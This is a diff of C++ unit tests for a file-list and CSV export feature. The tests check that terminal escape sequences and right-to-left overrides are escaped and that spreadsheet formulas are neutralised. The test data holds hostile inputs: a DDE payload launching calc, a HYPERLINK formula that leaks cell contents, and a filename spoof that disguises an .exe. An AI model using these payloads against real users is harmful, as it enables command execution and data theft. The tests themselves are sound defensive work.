@@ -252,6 +252,7 @@ TEST(WriteFileSafely, SaysWhyAndKeepsTheOldFileOnEveryFailure) {
         {ENOSPC, "空き容量がありません"},
         {EDQUOT, "空き容量がありません"},
         {EACCES, "書き込みの権限がありません"},
+        {EFBIG, "ファイルが大きすぎます"},
         {EIO, std::strerror(EIO)},
     };
     for (const Case& c : cases) {
@@ -300,9 +301,78 @@ TEST(SavedList, NamesAndCellsThatWouldBreakARowAreQuotedWhole) {
     const std::vector<ListRow> rows = {Row("a\nb.pdf", cells), Row("c, \"d\".pdf", {}),
                                        Row("tab\there.pdf", {})};
     const std::string list = BuildSavedList("/d", rows, ListEncoding::Cp932);
-    EXPECT_NE(list.find("\r\n  \"a\nb.pdf\",\"Title\",\"two\nlines\","), std::string::npos) << list;
+    EXPECT_NE(list.find("\r\n  \"a\nb.pdf\",Ti\\x00tle,\"two\nlines\","), std::string::npos)
+        << list;
     EXPECT_NE(list.find("\r\n  \"c, \"\"d\"\".pdf\","), std::string::npos);
     EXPECT_NE(list.find("\r\n  \"tab\there.pdf\","), std::string::npos);
     EXPECT_EQ(list.find('\0'), std::string::npos);
     EXPECT_EQ(QuoteCell(std::string("a\0b", 3)), "\"ab\"");
+}
+
+TEST(SavedList, TextThatWouldActOnATerminalIsWrittenAsEscapes) {
+    struct Case {
+        const char* what;
+        std::string text, written; // as title and as name; written in the list and the table
+    } cases[] = {
+        {"escape sequences", "T\x1b]0;PWNED\x07\x1b[2J", "T\\x1b]0;PWNED\\x07\\x1b[2J"},
+        {"PDFDocEncoding controls", "a\x0e\x0b\x7f", "a\\x0e\\x0b\\x7f"},
+        {"one-byte CSI", "x\u009b2J", "x\\u009b2J"},
+        {"right-to-left override", "evil\u202efdp.exe", "evil\\u202efdp.exe"},
+        {"isolate", "\u2067abc\u2069", "\\u2067abc\\u2069"},
+        {"bytes that are not UTF-8", "\xff\xfe", "\\xff\\xfe"},
+    };
+    for (const Case& c : cases) {
+        RowCells cells{};
+        cells[0] = c.text;
+        const std::vector<ListRow> rows = {Row(c.text, cells)};
+        EXPECT_NE(BuildSavedList("/d", rows, ListEncoding::Cp932)
+                      .find("\r\n  " + c.written + "," + c.written + ",,"),
+                  std::string::npos)
+            << c.what;
+        EXPECT_NE(BuildCsvTable(rows).find("\r\n" + c.written + "," + c.written + ",,"),
+                  std::string::npos)
+            << c.what;
+    }
+    // A Shift-JIS name keeps its own bytes around the escape; the location stays one line.
+    ListRow sjis = Row(Cp932ToUtf8("\x95\xf1\x1b.pdf"), {});
+    sjis.nameBytes = "\x95\xf1\x1b.pdf";
+    const std::string list = BuildSavedList("/d\x1b\n", {sjis}, ListEncoding::Cp932);
+    EXPECT_TRUE(list.starts_with(Utf8ToCp932("ファイルの場所：/d\\x1b\\x0a/\r\n"))) << list;
+    EXPECT_NE(list.find("\r\n  \x95\xf1\\x1b.pdf,"), std::string::npos) << list;
+}
+
+TEST(SavedList, TheTableMakesFormulasTextAndTheListKeepsThem) {
+    struct Case {
+        std::string text, inTable;
+    } cases[] = {
+        {"=HYPERLINK(\"http://x/?\"&A1)", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""},
+        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+        {"+SUM(A1)", "'+SUM(A1)"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\t=1", "\"'\t=1\""},
+        {"\r=1", "\"'\r=1\""},
+        {"-", "'-"},
+        {"+", "'+"},
+        {"-12", "-12"},
+        {"+1.5", "+1.5"},
+        {"-1,234", "\"-1,234\""},
+        {"-1.", "'-1."},
+        {"a=1", "a=1"},
+        {"1+1", "1+1"},
+        {"'=1", "'=1"},
+    };
+    for (const Case& c : cases) {
+        RowCells cells{};
+        cells[0] = c.text;
+        const std::vector<ListRow> rows = {Row(c.text, cells)};
+        EXPECT_EQ(BuildCsvTable(rows).substr(3 + kTableHeader.size()),
+                  c.inTable + "," + c.inTable + ",,,,,,,,,,,,\r\n")
+            << c.text;
+        // The list for this program keeps the text as it is (quoted where its rule says).
+        EXPECT_NE(
+            BuildSavedList("/d", rows, ListEncoding::Cp932).find("," + QuoteCell(c.text) + ","),
+            std::string::npos)
+            << c.text;
+    }
 }
